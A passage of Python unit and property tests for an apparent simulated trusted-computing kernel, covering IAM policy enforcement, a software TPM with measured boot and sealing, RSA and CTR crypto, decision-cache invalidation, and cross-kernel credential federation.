       st.sets(st.sampled_from(("reader", "writer", "auditor"))),
       st.sampled_from(ACTIONS), st.sampled_from(RESOURCES))
@settings(max_examples=25, deadline=None)
def test_enforcement_matches_reference_semantics(roles, bound, action,
                                                 resource_name):
    """Compiled enforcement == the obvious document interpretation.

    Dedup roles by name (put_role would version them; the property is
    about one applied configuration), bind the subject to ``bound``,
    apply, and compare the kernel's wallet-path verdict against a
    direct reading of the statements.  ``simulate`` must agree too.
    """
    documents = {}
    for role in roles:
        documents[role.name] = role
    bound = sorted(bound & set(documents))

    kernel = NexusKernel(key_seed=7)
    admin = kernel.create_process("admin")
    alice = kernel.create_process("alice")
    for name in RESOURCES:
        kernel.resources.create(name, "file", admin.principal)
    for role in documents.values():
        kernel.iam.put_role(role)
    for name in bound:
        kernel.iam.bind(str(alice.principal), name)
        kernel.sys_say(alice.pid, use_statement(name))
    kernel.iam.apply(admin.pid)

    matching = [(name, statement)
                for name in bound
                for statement in documents[name].statements
                if statement.matches(action, resource_name)]
    denied = [m for m in matching if m[1].effect == "Deny"]
    allowed = [m for m in matching if m[1].effect == "Allow"]

    from repro.core.attestation import kernel_wallet_bundle
    resource = kernel.resources.lookup(resource_name)
    bundle = kernel_wallet_bundle(kernel, alice.pid, action, resource)
    verdict = kernel.authorize(alice.pid, action, resource.resource_id,
                               bundle)
    simulated = kernel.iam.simulate(str(alice.principal), action,
                                    resource_name)

    if denied:
        assert not verdict.allow
        assert verdict.explanation.kind == "iam-deny"
        assert simulated.effect == "Deny"
    elif allowed:
        assert verdict.allow
        assert simulated.effect == "Allow"
    else:
        assert not verdict.allow
        assert verdict.explanation.kind == "default-policy"
        assert simulated.effect == "Default"
