"""TPM device and measured-boot tests."""

import pytest

from repro.errors import BootError, SealError, TPMError
from repro.tpm import (
    Machine,
    NEXUS_PCR_MASK,
    PCR_KERNEL,
    SoftwareStack,
    TPM,
    boot_nexus,
)

STACK = SoftwareStack(firmware=b"bios-1.0", bootloader=b"grub-0.97",
                      kernel_image=b"nexus-kernel-image")
EVIL_STACK = SoftwareStack(firmware=b"bios-1.0", bootloader=b"grub-0.97",
                           kernel_image=b"nexus-kernel-image-TROJANED")


@pytest.fixture
def tpm():
    return TPM(seed=42)


class TestPCRs:
    def test_pcrs_start_zero(self, tpm):
        assert tpm.read_pcr(0) == b"\x00" * 20

    def test_extend_changes_value(self, tpm):
        before = tpm.read_pcr(0)
        tpm.extend(0, b"measurement")
        assert tpm.read_pcr(0) != before

    def test_extend_is_order_sensitive(self):
        t1, t2 = TPM(seed=1), TPM(seed=2)
        t1.extend(0, b"a")
        t1.extend(0, b"b")
        t2.extend(0, b"b")
        t2.extend(0, b"a")
        assert t1.read_pcr(0) != t2.read_pcr(0)

    def test_power_cycle_resets_pcrs(self, tpm):
        tpm.extend(0, b"x")
        tpm.power_cycle()
        assert tpm.read_pcr(0) == b"\x00" * 20

    def test_bad_index(self, tpm):
        with pytest.raises(TPMError):
            tpm.extend(99, b"x")
        with pytest.raises(TPMError):
            tpm.read_pcr(-1)

    def test_composite_depends_on_selection(self, tpm):
        tpm.extend(0, b"x")
        tpm.extend(1, b"y")
        assert tpm.pcr_composite([0]) != tpm.pcr_composite([1])
        assert tpm.pcr_composite([0, 1]) == tpm.pcr_composite([1, 0])

    def test_v12_has_more_pcrs(self):
        assert TPM(version="1.2", seed=1).pcr_count == 24
        assert TPM(version="1.1", seed=1).pcr_count == 16

    def test_unknown_version_rejected(self):
        with pytest.raises(TPMError):
            TPM(version="3.0")


class TestSealUnseal:
    def test_seal_requires_ownership(self, tpm):
        with pytest.raises(SealError):
            tpm.seal(b"secret", [0])

    def test_seal_roundtrip(self, tpm):
        tpm.take_ownership(seed=7)
        tpm.extend(0, b"kernel")
        blob = tpm.seal(b"secret", [0])
        assert tpm.unseal(blob) == b"secret"

    def test_unseal_fails_after_pcr_change(self, tpm):
        tpm.take_ownership(seed=7)
        tpm.extend(0, b"kernel")
        blob = tpm.seal(b"secret", [0])
        tpm.extend(0, b"more-code")
        with pytest.raises(SealError):
            tpm.unseal(blob)

    def test_unseal_fails_with_modified_measurement(self, tpm):
        tpm.take_ownership(seed=7)
        tpm.extend(0, b"kernel")
        blob = tpm.seal(b"secret", [0])
        tpm.power_cycle()
        tpm.extend(0, b"evil-kernel")
        with pytest.raises(SealError):
            tpm.unseal(blob)

    def test_unseal_detects_ciphertext_tampering(self, tpm):
        tpm.take_ownership(seed=7)
        blob = tpm.seal(b"secret", [0])
        tampered = bytearray(blob.ciphertext)
        tampered[0] ^= 1
        blob.ciphertext = bytes(tampered)
        with pytest.raises(SealError):
            tpm.unseal(blob)

    def test_double_ownership_rejected(self, tpm):
        tpm.take_ownership(seed=7)
        with pytest.raises(TPMError):
            tpm.take_ownership(seed=8)

    def test_clear_ownership_invalidates_blobs(self, tpm):
        tpm.take_ownership(seed=7)
        blob = tpm.seal(b"secret", [0])
        tpm.clear_ownership()
        with pytest.raises(SealError):
            tpm.unseal(blob)


class TestQuote:
    def test_quote_verifies(self, tpm):
        tpm.extend(0, b"kernel")
        quote = tpm.quote(b"nonce-1", [0, 1])
        TPM.verify_quote(quote, tpm.ek_public)

    def test_quote_rejects_wrong_ek(self, tpm):
        other = TPM(seed=43)
        quote = tpm.quote(b"nonce-1", [0])
        with pytest.raises(Exception):
            TPM.verify_quote(quote, other.ek_public)

    def test_quote_binds_nonce(self, tpm):
        quote = tpm.quote(b"nonce-1", [0])
        forged = type(quote)(pcr_mask=quote.pcr_mask,
                             composite=quote.composite,
                             nonce=b"nonce-2", signature=quote.signature)
        with pytest.raises(Exception):
            TPM.verify_quote(forged, tpm.ek_public)


class TestDIRs:
    def test_dir_roundtrip(self, tpm):
        tpm.dir_write(0, b"\xaa" * 20)
        assert tpm.dir_read(0) == b"\xaa" * 20

    def test_dir_width_enforced(self, tpm):
        with pytest.raises(TPMError):
            tpm.dir_write(0, b"short")

    def test_dir_index_bounds(self, tpm):
        with pytest.raises(TPMError):
            tpm.dir_write(2, b"\x00" * 20)

    def test_dir_policy_blocks_other_configurations(self, tpm):
        tpm.extend(PCR_KERNEL, b"nexus")
        tpm.protect_dirs([PCR_KERNEL])
        tpm.dir_write(0, b"\xbb" * 20)  # allowed: measured state matches
        tpm.extend(PCR_KERNEL, b"rootkit")
        with pytest.raises(TPMError):
            tpm.dir_read(0)
        with pytest.raises(TPMError):
            tpm.dir_write(0, b"\xcc" * 20)


class TestNVRAM:
    def test_nvram_only_on_v12(self, tpm):
        with pytest.raises(TPMError):
            tpm.nv_write("region", b"x")

    def test_nvram_roundtrip(self):
        tpm = TPM(version="1.2", seed=5)
        tpm.nv_write("counters", b"\x01\x02")
        assert tpm.nv_read("counters") == b"\x01\x02"

    def test_nvram_capacity(self):
        tpm = TPM(version="1.2", seed=5)
        tpm.nv_write("big", b"x" * 1280)
        with pytest.raises(TPMError):
            tpm.nv_write("more", b"y")

    def test_nvram_missing_region(self):
        tpm = TPM(version="1.2", seed=5)
        with pytest.raises(TPMError):
            tpm.nv_read("nothing")


class TestMeasuredBoot:
    def test_first_boot_takes_ownership(self, tpm):
        machine = Machine(tpm=tpm)
        ctx = boot_nexus(machine, STACK, seed=9)
        assert ctx.first_boot
        assert tpm.owned
        assert ctx.nk_blob is not None

    def test_reboot_recovers_same_nk(self, tpm):
        machine = Machine(tpm=tpm)
        first = boot_nexus(machine, STACK, seed=9)
        second = boot_nexus(machine, STACK, nk_blob=first.nk_blob)
        assert not second.first_boot
        assert second.nk.n == first.nk.n
        assert second.nk.d == first.nk.d

    def test_nbk_fresh_each_boot(self, tpm):
        machine = Machine(tpm=tpm)
        first = boot_nexus(machine, STACK, seed=9)
        second = boot_nexus(machine, STACK, nk_blob=first.nk_blob)
        assert first.nbk.public != second.nbk.public
        assert first.boot_id() != second.boot_id()

    def test_modified_kernel_cannot_recover_nk(self, tpm):
        machine = Machine(tpm=tpm)
        first = boot_nexus(machine, STACK, seed=9)
        with pytest.raises(BootError):
            boot_nexus(machine, EVIL_STACK, nk_blob=first.nk_blob)

    def test_measurements_land_in_expected_pcrs(self, tpm):
        machine = Machine(tpm=tpm)
        machine.power_on(STACK)
        baseline = [tpm.read_pcr(i) for i in NEXUS_PCR_MASK]
        assert all(value != b"\x00" * 20 for value in baseline)
        machine.power_on(STACK)
        assert [tpm.read_pcr(i) for i in NEXUS_PCR_MASK] == baseline

    def test_platform_principal_names_boot(self, tpm):
        machine = Machine(tpm=tpm)
        ctx = boot_nexus(machine, STACK, seed=9)
        name = ctx.platform_principal_name()
        assert name.startswith("NK-")
        assert ctx.boot_id() in name
