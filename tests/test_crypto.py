"""Unit and property tests for the crypto substrate."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.crypto import (
    CTRCipher,
    Certificate,
    CertificateChain,
    constant_time_eq,
    generate_keypair,
    hash_chain_extend,
    sha1,
    sha256,
)
from repro.crypto.ctr import BLOCK_SIZE
from repro.crypto.rsa import RSAPublicKey, _is_probable_prime
import random

from repro.errors import CryptoError, SignatureError


@pytest.fixture(scope="module")
def keypair():
    return generate_keypair(bits=512, seed=7)


@pytest.fixture(scope="module")
def other_keypair():
    return generate_keypair(bits=512, seed=11)


class TestHashes:
    def test_sha1_width(self):
        assert len(sha1(b"abc")) == 20

    def test_sha256_width(self):
        assert len(sha256(b"abc")) == 32

    def test_string_and_bytes_agree(self):
        assert sha256("hello") == sha256(b"hello")

    def test_extend_is_order_sensitive(self):
        start = b"\x00" * 20
        a_then_b = hash_chain_extend(hash_chain_extend(start, b"a"), b"b")
        b_then_a = hash_chain_extend(hash_chain_extend(start, b"b"), b"a")
        assert a_then_b != b_then_a

    def test_extend_keeps_register_width(self):
        assert len(hash_chain_extend(b"\x00" * 20, b"x")) == 20
        assert len(hash_chain_extend(b"\x00" * 32, b"x")) == 32

    def test_extend_deterministic(self):
        start = b"\x11" * 20
        assert hash_chain_extend(start, b"m") == hash_chain_extend(start, b"m")

    def test_constant_time_eq(self):
        assert constant_time_eq(b"abc", b"abc")
        assert not constant_time_eq(b"abc", b"abd")


class TestRSA:
    def test_keygen_deterministic_with_seed(self):
        assert generate_keypair(512, seed=3).n == generate_keypair(512, seed=3).n

    def test_keygen_rejects_small_keys(self):
        with pytest.raises(CryptoError):
            generate_keypair(256)

    def test_sign_verify_roundtrip(self, keypair):
        sig = keypair.sign(b"message")
        keypair.public.verify(b"message", sig)  # must not raise

    def test_verify_rejects_wrong_message(self, keypair):
        sig = keypair.sign(b"message")
        with pytest.raises(SignatureError):
            keypair.public.verify(b"other", sig)

    def test_verify_rejects_wrong_key(self, keypair, other_keypair):
        sig = keypair.sign(b"message")
        with pytest.raises(SignatureError):
            other_keypair.public.verify(b"message", sig)

    def test_verify_rejects_bitflipped_signature(self, keypair):
        sig = bytearray(keypair.sign(b"message"))
        sig[0] ^= 0x01
        assert not keypair.public.is_valid(b"message", bytes(sig))

    def test_signature_out_of_range(self, keypair):
        huge = (keypair.n + 1).to_bytes((keypair.n.bit_length() // 8) + 2, "big")
        with pytest.raises(SignatureError):
            keypair.public.verify(b"m", huge)

    def test_fingerprint_stable_and_distinct(self, keypair, other_keypair):
        assert keypair.public.fingerprint() == keypair.public.fingerprint()
        assert keypair.public.fingerprint() != other_keypair.public.fingerprint()

    def test_public_key_dict_roundtrip(self, keypair):
        restored = RSAPublicKey.from_dict(keypair.public.to_dict())
        assert restored == keypair.public

    def test_miller_rabin_rejects_composites(self):
        rng = random.Random(0)
        for composite in [4, 15, 91, 561, 41041, 25326001]:  # incl. Carmichaels
            assert not _is_probable_prime(composite, rng)

    def test_miller_rabin_accepts_primes(self):
        rng = random.Random(0)
        for prime in [2, 3, 101, 7919, 104729, (1 << 61) - 1]:
            assert _is_probable_prime(prime, rng)

    @given(st.binary(min_size=0, max_size=256))
    @settings(max_examples=20, deadline=None)
    def test_sign_verify_property(self, message):
        keypair = generate_keypair(512, seed=99)
        assert keypair.public.is_valid(message, keypair.sign(message))


class TestCTR:
    def test_roundtrip(self):
        cipher = CTRCipher(key=b"k" * 16, nonce=b"n" * 8)
        data = b"the quick brown fox jumps over the lazy dog" * 3
        assert cipher.decrypt(cipher.encrypt(data)) == data

    def test_key_too_short(self):
        with pytest.raises(CryptoError):
            CTRCipher(key=b"short")

    def test_block_independence(self):
        cipher = CTRCipher(key=b"k" * 16)
        plain = bytearray(BLOCK_SIZE * 4)
        base = cipher.encrypt(bytes(plain))
        plain[BLOCK_SIZE * 2] ^= 0xFF  # flip a byte in block 2
        changed = cipher.encrypt(bytes(plain))
        for block in range(4):
            lo, hi = block * BLOCK_SIZE, (block + 1) * BLOCK_SIZE
            if block == 2:
                assert base[lo:hi] != changed[lo:hi]
            else:
                assert base[lo:hi] == changed[lo:hi]

    def test_random_access_decrypt(self):
        cipher = CTRCipher(key=b"k" * 16)
        data = bytes(range(256)) * 2
        full = cipher.encrypt(data)
        # decrypt only block 3 using its block index
        lo, hi = 3 * BLOCK_SIZE, 4 * BLOCK_SIZE
        assert cipher.decrypt(full[lo:hi], first_block=3) == data[lo:hi]

    def test_different_nonce_different_ciphertext(self):
        a = CTRCipher(key=b"k" * 16, nonce=b"a" * 8).encrypt(b"data" * 10)
        b = CTRCipher(key=b"k" * 16, nonce=b"b" * 8).encrypt(b"data" * 10)
        assert a != b

    @given(st.binary(min_size=0, max_size=500),
           st.integers(min_value=0, max_value=1000))
    @settings(max_examples=50, deadline=None)
    def test_roundtrip_property(self, data, first_block):
        cipher = CTRCipher(key=b"key-" * 4, nonce=b"nonce-!!")
        assert cipher.decrypt(cipher.encrypt(data, first_block), first_block) == data


class TestCertificates:
    def test_issue_and_verify(self, keypair):
        cert = Certificate.issue("TPM", "kernel", "kernel speaksfor TPM.nexus",
                                 keypair)
        cert.verify()

    def test_tampered_statement_fails(self, keypair):
        cert = Certificate.issue("TPM", "kernel", "S", keypair)
        forged = Certificate(
            issuer=cert.issuer, subject=cert.subject, statement="S'",
            issuer_key=cert.issuer_key, subject_key=cert.subject_key,
            signature=cert.signature)
        with pytest.raises(SignatureError):
            forged.verify()

    def test_json_roundtrip(self, keypair, other_keypair):
        cert = Certificate.issue("TPM", "kernel", "S", keypair,
                                 subject_key=other_keypair.public,
                                 extensions={"boot": 1})
        restored = Certificate.from_json(cert.to_json())
        assert restored == cert
        restored.verify()

    def test_chain_verifies(self, keypair, other_keypair):
        leaf_key = generate_keypair(512, seed=21)
        c1 = Certificate.issue("TPM", "NK", "NK speaksfor TPM.nexus",
                               keypair, subject_key=other_keypair.public)
        c2 = Certificate.issue("NK", "proc12", "proc12 says S",
                               other_keypair, subject_key=leaf_key.public)
        chain = CertificateChain(root_key=keypair.public, certs=[c1, c2])
        chain.verify()
        assert chain.speaker_path() == ["TPM", "NK", "proc12"]
        assert chain.leaf() is c2

    def test_chain_detects_wrong_link_key(self, keypair, other_keypair):
        c1 = Certificate.issue("TPM", "NK", "S1", keypair,
                               subject_key=other_keypair.public)
        # c2 signed by keypair, but the chain delegated to other_keypair
        c2 = Certificate.issue("NK", "proc", "S2", keypair)
        chain = CertificateChain(root_key=keypair.public, certs=[c1, c2])
        with pytest.raises(SignatureError):
            chain.verify()

    def test_chain_requires_delegation_key(self, keypair):
        c1 = Certificate.issue("TPM", "NK", "S1", keypair)  # no subject key
        c2 = Certificate.issue("NK", "proc", "S2", keypair)
        chain = CertificateChain(root_key=keypair.public, certs=[c1, c2])
        with pytest.raises(SignatureError):
            chain.verify()

    def test_empty_chain_rejected(self, keypair):
        with pytest.raises(SignatureError):
            CertificateChain(root_key=keypair.public, certs=[]).verify()
