"""Decision-cache semantics: accounting, sharding, epoch invalidation,
and the batch authorization fast path built on top of it."""

import pytest

from repro.core.revocation import RevocationService
from repro.kernel.decision_cache import DecisionCache
from repro.kernel.guard import GuardRequest
from repro.kernel.kernel import NexusKernel
from repro.nal.checker import check, check_cached, clear_check_memo
from repro.nal.parser import parse
from repro.nal.proof import Assume, ProofBundle, Rule


# ---------------------------------------------------------------------------
# accounting
# ---------------------------------------------------------------------------

class TestAccounting:
    def test_hit_miss_insert_counts_are_exact(self):
        cache = DecisionCache(subregions=8)
        assert cache.lookup(1, "read", 1) is None          # miss
        cache.insert(1, "read", 1, True)
        cache.insert(2, "read", 1, False)
        assert cache.lookup(1, "read", 1) is True          # hit
        assert cache.lookup(2, "read", 1) is False         # hit
        assert cache.lookup(3, "read", 1) is None          # miss
        stats = cache.stats
        assert (stats.hits, stats.misses, stats.insertions) == (2, 2, 2)
        assert stats.hit_rate == 0.5

    def test_report_is_flat_and_complete(self):
        cache = DecisionCache()
        cache.insert(1, "read", 1, True)
        cache.lookup(1, "read", 1)
        report = cache.stats.report()
        for key in ("hits", "misses", "hit_rate", "insertions",
                    "entry_invalidations", "goal_invalidations",
                    "policy_epoch_bumps", "stale_drops"):
            assert key in report
        assert report["hits"] == 1 and report["insertions"] == 1

    def test_snapshot_reports_occupancy(self):
        cache = DecisionCache(subregions=8)
        empty = cache.snapshot()
        assert empty["entries"] == 0
        assert empty["occupied_shards"] == 0
        assert empty["max_shard_entries"] == 0
        assert empty["shards"] == 8
        for subject in range(6):
            cache.insert(subject, "read", subject * 7, True)
        snapshot = cache.snapshot()
        assert snapshot["entries"] == 6 == len(cache)
        assert 1 <= snapshot["occupied_shards"] <= 8
        assert snapshot["max_shard_entries"] == max(cache.shard_sizes())
        assert snapshot["entries"] == sum(cache.shard_sizes())
        # The occupancy keys ride along with the counters.
        assert snapshot["insertions"] == 6
        assert snapshot["policy_epoch"] == 0

    def test_disabled_cache_is_invisible(self):
        cache = DecisionCache(enabled=False)
        cache.insert(1, "read", 1, True)
        assert cache.lookup(1, "read", 1) is None
        assert len(cache) == 0
        assert cache.stats.hits == 0 and cache.stats.misses == 0


# ---------------------------------------------------------------------------
# shard distribution
# ---------------------------------------------------------------------------

class TestSharding:
    def test_entries_spread_across_shards(self):
        cache = DecisionCache(subregions=16)
        for subject in range(8):
            for obj in range(32):
                cache.insert(subject, "read", obj, True)
        sizes = cache.shard_sizes()
        assert sum(sizes) == len(cache) == 256
        assert sum(1 for size in sizes if size) > 1
        # No shard hoards the table: a degenerate hash would put
        # everything in one bucket.
        assert max(sizes) < 256

    def test_lookup_agrees_with_insert_across_shard_counts(self):
        for shards in (1, 3, 64):
            cache = DecisionCache(subregions=shards)
            entries = {(s, "op", o): (s + o) % 2 == 0
                       for s in range(5) for o in range(5)}
            for (s, op, o), decision in entries.items():
                cache.insert(s, op, o, decision)
            for (s, op, o), decision in entries.items():
                assert cache.lookup(s, op, o) is decision


# ---------------------------------------------------------------------------
# epoch invalidation
# ---------------------------------------------------------------------------

class TestEpochInvalidation:
    def test_goal_bump_kills_exactly_that_goal(self):
        cache = DecisionCache(subregions=4)
        for obj in range(50):
            cache.insert(1, "read", obj, True)
        cache.invalidate_goal("read", 7)
        assert cache.lookup(1, "read", 7) is None
        # Zero collateral damage, even at tiny shard counts where the
        # old subregion design wiped dozens of neighbours.
        for obj in range(50):
            if obj != 7:
                assert cache.lookup(1, "read", obj) is True
        assert cache.stats.goal_invalidations == 1

    def test_goal_bump_does_not_flush_shards(self):
        cache = DecisionCache(subregions=4)
        for obj in range(50):
            cache.insert(1, "read", obj, True)
        physical = cache.raw_size()
        cache.invalidate_goal("read", 7)
        # O(1): the stale entry is still physically present...
        assert cache.raw_size() == physical
        # ...but logically gone, and dropped on first touch.
        assert len(cache) == physical - 1
        assert cache.lookup(1, "read", 7) is None
        assert cache.stats.stale_drops >= 1
        assert cache.raw_size() == physical - 1

    def test_policy_bump_retires_all_without_flushing(self):
        cache = DecisionCache(subregions=8)
        for obj in range(20):
            cache.insert(1, "read", obj, True)
        physical = cache.raw_size()
        epoch = cache.bump_policy_epoch()
        assert cache.policy_epoch == epoch
        assert cache.raw_size() == physical       # nothing flushed
        assert len(cache) == 0                    # everything retired
        assert cache.lookup(1, "read", 3) is None
        assert cache.stats.policy_epoch_bumps == 1

    def test_reinsertion_after_bump_is_live(self):
        cache = DecisionCache()
        cache.insert(1, "read", 1, True)
        cache.bump_policy_epoch()
        cache.insert(1, "read", 1, False)
        assert cache.lookup(1, "read", 1) is False
        cache.invalidate_goal("read", 1)
        cache.insert(1, "read", 1, True)
        assert cache.lookup(1, "read", 1) is True

    def test_purge_sweeps_stale_entries(self):
        cache = DecisionCache(subregions=4)
        for obj in range(10):
            cache.insert(1, "read", obj, True)
        cache.bump_policy_epoch()
        assert cache.purge() == 10
        assert cache.raw_size() == 0
        assert cache.purge() == 0


# ---------------------------------------------------------------------------
# revocation wiring
# ---------------------------------------------------------------------------

class TestRevocationEpoch:
    def _cached_world(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/rev/obj", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        return kernel, owner, client, resource, bundle

    def test_revoke_bumps_policy_epoch_and_retires_verdicts(self):
        kernel, owner, client, resource, bundle = self._cached_world()
        service = RevocationService(kernel)
        service.issue(owner, "member(alice)")
        assert kernel.authorize(client.pid, "read", resource.resource_id,
                                bundle).allow
        hits_before = kernel.decision_cache.stats.hits
        kernel.authorize(client.pid, "read", resource.resource_id, bundle)
        assert kernel.decision_cache.stats.hits == hits_before + 1

        epoch_before = kernel.decision_cache.policy_epoch
        service.revoke(owner, "member(alice)")
        assert kernel.decision_cache.policy_epoch == epoch_before + 1

        # The cached verdict is stale: the next request re-derives at the
        # guard instead of answering from the cache.
        upcalls_before = kernel.default_guard.upcalls
        decision = kernel.authorize(client.pid, "read",
                                    resource.resource_id, bundle)
        assert decision.allow  # this policy never depended on the claim
        assert kernel.default_guard.upcalls == upcalls_before + 1

    def test_reinstate_also_bumps(self):
        kernel, owner, client, resource, bundle = self._cached_world()
        service = RevocationService(kernel)
        service.issue(owner, "member(bob)")
        service.revoke(owner, "member(bob)")
        epoch = kernel.decision_cache.policy_epoch
        service.reinstate(owner, "member(bob)")
        assert kernel.decision_cache.policy_epoch == epoch + 1
        assert service.is_valid(owner, "member(bob)")


# ---------------------------------------------------------------------------
# batch guard API
# ---------------------------------------------------------------------------

class TestCheckMany:
    def _world(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        clients = [kernel.create_process(f"client{i}") for i in range(3)]
        resource = kernel.resources.create("/batch/obj", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        bundles = []
        for client in clients:
            cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
            bundles.append(ProofBundle(Assume(cred), credentials=(cred,)))
        return kernel, owner, clients, resource, bundles

    def test_duplicates_checked_once(self):
        kernel, owner, clients, resource, bundles = self._world()
        guard = kernel.default_guard
        request = GuardRequest(subject=clients[0].principal,
                               operation="read", resource=resource,
                               bundle=bundles[0])
        upcalls_before = guard.upcalls
        decisions = guard.check_many([request] * 16)
        assert len(decisions) == 16
        assert all(d.allow for d in decisions)
        assert guard.upcalls == upcalls_before + 1
        assert guard.batch_dedup_hits >= 15

    def test_non_cacheable_verdicts_are_not_deduped(self):
        """Authority answers are live even inside one batch: §2.7 says
        they are re-executed on every request, so check_many must only
        reuse verdicts the guard marked cacheable."""
        from repro.kernel.authority import CallableAuthority
        from repro.nal.parser import parse
        from repro.nal.proof import AuthorityQuery

        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/batch/gated", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        answers = iter([True, True, False, False])
        kernel.register_authority(
            "gate", CallableAuthority(lambda formula: next(answers)))
        concrete = parse(f"{owner.path} says ok({client.path})")
        bundle = ProofBundle(AuthorityQuery(concrete, "gate"))
        request = GuardRequest(subject=client.principal, operation="read",
                               resource=resource, bundle=bundle)
        decisions = kernel.default_guard.check_many([request] * 4)
        assert [d.allow for d in decisions] == [True, True, False, False]

    def test_mixed_batch_matches_sequential(self):
        kernel, owner, clients, resource, bundles = self._world()
        guard = kernel.default_guard
        requests = []
        for client, bundle in zip(clients, bundles):
            requests.append(GuardRequest(subject=client.principal,
                                         operation="read",
                                         resource=resource, bundle=bundle))
        # A deny rides along: no proof supplied.
        requests.append(GuardRequest(subject=clients[0].principal,
                                     operation="write", resource=resource,
                                     bundle=None))
        batch = guard.check_many(requests)
        sequential = [guard.check(r.subject, r.operation, r.resource,
                                  r.bundle, r.subject_root)
                      for r in requests]
        assert [d.allow for d in batch] == [d.allow for d in sequential]
        assert [d.allow for d in batch] == [True, True, True, False]

    def test_authorize_many_orders_and_caches(self):
        kernel, owner, clients, resource, bundles = self._world()
        rid = resource.resource_id
        requests = []
        for client, bundle in zip(clients, bundles):
            requests.extend([(client.pid, "read", rid, bundle)] * 4)
        decisions = kernel.authorize_many(requests)
        assert len(decisions) == 12 and all(d.allow for d in decisions)
        # Cacheable verdicts landed in the decision cache: a rerun of the
        # same batch answers without a single new guard upcall.
        upcalls = kernel.default_guard.upcalls
        rerun = kernel.authorize_many(requests)
        assert all(d.reason == "decision cache" for d in rerun)
        assert kernel.default_guard.upcalls == upcalls

    def test_authorize_many_equals_authorize(self):
        kernel, owner, clients, resource, bundles = self._world()
        rid = resource.resource_id
        requests = [(clients[0].pid, "read", rid, bundles[0]),
                    (clients[1].pid, "read", rid, bundles[2]),  # wrong cred
                    (clients[2].pid, "write", rid, None)]
        batch = [d.allow for d in kernel.authorize_many(requests)]

        kernel2 = NexusKernel()
        owner2 = kernel2.create_process("owner")
        clients2 = [kernel2.create_process(f"client{i}") for i in range(3)]
        resource2 = kernel2.resources.create("/batch/obj", "file",
                                             owner2.principal)
        kernel2.sys_setgoal(owner2.pid, resource2.resource_id, "read",
                            f"{owner2.path} says ok(?Subject)")
        bundles2 = []
        for client in clients2:
            cred = kernel2.sys_say(owner2.pid, f"ok({client.path})").formula
            bundles2.append(ProofBundle(Assume(cred), credentials=(cred,)))
        rid2 = resource2.resource_id
        sequential = [
            kernel2.authorize(clients2[0].pid, "read", rid2,
                              bundles2[0]).allow,
            kernel2.authorize(clients2[1].pid, "read", rid2,
                              bundles2[2]).allow,
            kernel2.authorize(clients2[2].pid, "write", rid2, None).allow,
        ]
        assert batch == sequential == [True, False, False]


# ---------------------------------------------------------------------------
# checker memoization + batch IPC
# ---------------------------------------------------------------------------

class TestCheckerMemo:
    def test_check_cached_returns_identical_result(self):
        clear_check_memo()
        cred = parse("A says ok(B)")
        proof = Assume(cred)
        first = check_cached(proof)
        second = check_cached(proof)
        assert first is second
        assert first == check(proof)

    def test_unsound_proof_still_raises_every_time(self):
        from repro.errors import ProofError
        clear_check_memo()
        bad = Rule("and_elim_l", (Assume(parse("p")),), parse("p"))
        for _ in range(2):
            with pytest.raises(ProofError):
                check_cached(bad)


class TestBatchIPC:
    def test_send_many_then_drain(self):
        kernel = NexusKernel()
        sender = kernel.create_process("sender")
        receiver = kernel.create_process("receiver")
        port = kernel.create_port(receiver.pid, "inbox")
        delivered = kernel.ipc_send_many(sender.pid, port.port_id,
                                         ["a", "b", "c"])
        assert delivered == 3
        assert port.drain() == ["a", "b", "c"]
        assert port.mailbox == [] and port.drain() == []
