"""Federation: peer registry, credential bundles, admission, revocation.

Covers the cross-kernel credential exchange end to end: export on one
kernel, verification and admission on another, the digest-keyed import
cache with epoch invalidation, peer revocation dropping admitted
principals, and the two-kernel typed-object-store flow.
"""

import json

import pytest

from repro.api import ApiError, NexusClient, NexusService
from repro.core.attestation import (export_credential_bundle,
                                    verify_credential_bundle)
from repro.core.revocation import RevocationService
from repro.errors import BadChain, FederationError, UntrustedPeer
from repro.federation import (CredentialBundle, PeerRegistry,
                              export_credentials, peer_id_for)
from repro.kernel.kernel import NexusKernel
from repro.nal.parser import parse

A_SEED = 1101
B_SEED = 2202
C_SEED = 3303


@pytest.fixture
def kernels():
    """Two kernels with distinct platform identities, B trusting A."""
    a = NexusKernel(key_seed=A_SEED)
    b = NexusKernel(key_seed=B_SEED)
    identity = a.platform_identity()
    b.add_peer("site-a", identity["root_key"],
               platform=identity["platform"])
    return a, b


def _bundle_for(kernel, name, statements):
    """A process on ``kernel`` with the given labels, exported."""
    process = kernel.create_process(name)
    for statement in statements:
        kernel.sys_say(process.pid, statement)
    return kernel.export_credentials(process.pid)


# --------------------------------------------------------------------------
# the peer registry
# --------------------------------------------------------------------------

class TestPeerRegistry:
    def test_peer_id_is_root_key_fingerprint(self):
        kernel = NexusKernel(key_seed=A_SEED)
        registry = PeerRegistry()
        peer = registry.add("a", kernel.platform_root_key())
        assert peer.peer_id == peer_id_for(kernel.platform_root_key())
        assert registry.require(peer.peer_id) is peer

    def test_unknown_and_revoked_peers_fail_closed(self):
        registry = PeerRegistry()
        with pytest.raises(UntrustedPeer):
            registry.require("ff" * 32)
        kernel = NexusKernel(key_seed=A_SEED)
        peer = registry.add("a", kernel.platform_root_key())
        registry.revoke(peer.peer_id)
        with pytest.raises(UntrustedPeer):
            registry.require(peer.peer_id)
        assert registry.trusted_peers() == []

    def test_aliases_are_unique_capabilities(self):
        registry = PeerRegistry()
        a = NexusKernel(key_seed=A_SEED)
        c = NexusKernel(key_seed=C_SEED)
        registry.add("site", a.platform_root_key())
        with pytest.raises(FederationError):
            registry.add("site", c.platform_root_key())
        with pytest.raises(FederationError):
            registry.add("other", a.platform_root_key())

    def test_re_adding_same_key_re_trusts(self):
        registry = PeerRegistry()
        a = NexusKernel(key_seed=A_SEED)
        peer = registry.add("site", a.platform_root_key())
